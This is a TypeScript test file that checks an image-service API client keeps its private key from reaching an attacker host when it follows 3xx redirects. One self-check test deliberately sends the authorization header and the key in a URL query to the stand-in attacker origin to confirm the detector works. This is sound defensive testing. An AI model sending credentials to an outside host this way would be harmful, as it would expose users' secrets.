import assert from 'node:assert/strict';
import { AttackedAccount, ownAuthorization } from '../support/attackedAccount.ts';
import { answerAsImageKit } from '../support/recordingServer.ts';

suite('a host that redirects to an attacker', function () {
  this.timeout(300_000);
  const attacked = new AttackedAccount();
  const { own, attacker } = attacked;

  suiteSetup(() => attacked.connect());
  suiteTeardown(() => attacked.disconnect());
  setup(() => attacked.forgetRequests());
  teardown(() => {
    own.answer = answerAsImageKit;
  });

  for (const status of [301, 302, 303, 307, 308]) {
    test(`with status ${status} takes no byte of the key along`, async () => {
      own.answer = ({ url }, response) =>
        response.writeHead(status, { location: `${attacker.origin}${url}` }).end();
      await attacked.useEverything();
      assert(attacked.ownHostHasKey(), 'the host that redirects knows the key');
      assert(attacker.received.length > 0, 'the attacker was reached');
      attacked.attackerHasNoByte();
    });
  }

  test('who would take it along would be found out', async () => {
    await fetch(`${attacker.origin}/v1/files`, { headers: { authorization: ownAuthorization } });
    assert.throws(() => attacked.attackerHasNoByte());
    attacked.forgetRequests();
    await fetch(`${attacker.origin}/?key=${encodeURIComponent(attacked.privateKey)}`);
    assert.throws(() => attacked.attackerHasNoByte());
  });

  test('and one that redirects to itself gets the key again', async () => {
    own.answer = (request, response) => {
      if (request.url.includes('again')) answerAsImageKit(request, response);
      else response.writeHead(302, { location: `${own.origin}/v1/files?again` }).end();
    };
    await attacked.useEverything();
    const again = own.received.filter(({ url }) => url.includes('again'));
    assert(again.some(({ headers }) => headers['authorization'] === ownAuthorization));
  });
});
